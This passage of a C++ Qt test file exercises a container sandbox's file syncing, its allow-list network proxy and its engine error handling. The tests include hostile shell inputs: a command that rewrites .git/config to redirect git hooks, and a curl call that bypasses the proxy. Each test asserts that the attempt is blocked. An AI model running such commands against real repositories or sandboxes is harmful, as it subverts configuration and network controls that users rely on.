    const auto git = run(box, shell("echo x >> .git/config; mv .git .git-old && mkdir .git && "
                                    "echo '[core] hooksPath=/tmp' > .git/config"));
    QVERIFY(git.stderrData.contains("Permission denied"));
    QCOMPARE(readFile(workspace.filePath(".git/config")), QByteArray("[core]\n"));
    QVERIFY(box.lastSyncReport().refused.join('\n').contains(".git/config: a denied path"));

    // A change on the host reaches the next command.
    writeFile(workspace.filePath("hello.txt"), "host edit\n");
    QCOMPARE(run(box, shell("cat hello.txt")).stdoutData, QByteArray("host edit\n"));
    box.stop();

    // A cold container per command round-trips the same way.
    options.cold = true;
    sandbox::ContainerSandbox cold(policy(workspace.path()), options);
    QVERIFY(cold.start().has_value());
    QCOMPARE(run(cold, shell("cat hello.txt; echo cold > hello.txt")).stdoutData,
             QByteArray("host edit\n"));
    QCOMPARE(readFile(workspace.filePath("hello.txt")), QByteArray("cold\n"));
    QVERIFY(QFileInfo::exists(workspace.filePath("sub/keep.txt")));
    QVERIFY2(cold.lastSyncReport().refused.isEmpty(),
             qPrintable(cold.lastSyncReport().refused.join('\n')));
}

void tst_ContainerSandbox::allowedHostIsReachedThroughTheProxy_data()
{
    QTest::addColumn<bool>("cold");
    QTest::newRow("warm") << false;
    QTest::newRow("cold") << true;
}

void tst_ContainerSandbox::allowedHostIsReachedThroughTheProxy()
{
    QFETCH(bool, cold);
    StandInServer allowed(StandInServer::Mode::Http);
    StandInServer other(StandInServer::Mode::Http);
    // Owned by another user than Tandem's: the proxy's socket must be handed over.
    QTemporaryDir workspace;
    handTo(workspace.path(), QStringLiteral("1234:1234"));
    auto p = policy(workspace.path());
    p.allowedHosts = {QStringLiteral("127.0.0.1:%1").arg(allowed.port())};
    sandbox::ContainerSandbox::Options options;
    options.endpoint = m_unix;
    options.cold = cold;
    sandbox::ContainerSandbox box(p, options);
    std::mutex mutex;
    std::vector<std::string> decisions;
    box.setEventSink([&](const std::string &kind, nlohmann::json fields) {
        const std::lock_guard lock(mutex);
        if (kind == "network_request")
            decisions.push_back(fields.dump());
    });
    auto started = box.start();
    QVERIFY2(started.has_value(), started ? "" : qPrintable(started.error().message));

    // The allowed stand-in answers through the proxy; the other port on the host's loopback is
    // refused by the proxy (403) and, without it, unreachable from the container's own loopback.
    const QString script =
        QStringLiteral("echo \"allowed=$(curl -s -m 5 http://127.0.0.1:%1/)\"; "
                       "echo \"other=$(curl -s -m 5 -o /dev/null -w '%{http_code}' "
                       "http://127.0.0.1:%2/)\"; "
                       "curl -s -m 5 --noproxy '*' http://127.0.0.1:%2/; echo \"direct=$?\"")
            .arg(allowed.port())
            .arg(other.port());
    const auto result = run(box, shell(script));
    const QByteArray out = result.stdoutData;
    QVERIFY2(out.contains("allowed=hello from stand-in"), out + result.stderrData);
    QVERIFY2(out.contains("other=403"), out);
    QVERIFY2(out.contains("direct=") && !out.contains("direct=0"), out);
    QCOMPARE(other.connections(), 0);
    const std::lock_guard lock(mutex);
    QVERIFY(decisions.size() >= 2);
}

void tst_ContainerSandbox::remoteEngineRefusesAllowedHosts()
{
    auto tcp = sandbox::EngineEndpoint::parse(m_service.value("TANDEM_PODMAN_TCP"));
    QVERIFY(tcp.has_value());
    QTemporaryDir workspace;
    auto p = policy(workspace.path());
    p.allowedHosts = {QStringLiteral("127.0.0.1:9")};
    sandbox::ContainerSandbox::Options options;
    options.endpoint = *tcp;
    sandbox::ContainerSandbox box(p, options);
    auto started = box.start();
    QVERIFY(!started.has_value());
    QCOMPARE(started.error().code, QStringLiteral("sandbox_remote_network"));
    QVERIFY(!started.error().message.contains('\n'));
}

void tst_ContainerSandbox::unreachableEngineSaysWhatToDo()
{
    QTemporaryDir workspace;
    sandbox::ContainerSandbox::Options options;
    options.endpoint = *sandbox::EngineEndpoint::parse(
        QStringLiteral("unix://") + workspace.filePath(QStringLiteral("no.sock")));
    sandbox::ContainerSandbox box(policy(workspace.path()), options);
    auto started = box.start();
    QVERIFY(!started.has_value());
    QCOMPARE(started.error().code, QStringLiteral("engine_unreachable"));
    QVERIFY(started.error().message.contains("podman system service"));
    QVERIFY(!sandbox::EngineEndpoint::parse(QStringLiteral("ssh://host")).has_value());
}

QTEST_GUILESS_MAIN(tst_ContainerSandbox)
#include "tst_containersandbox.moc"
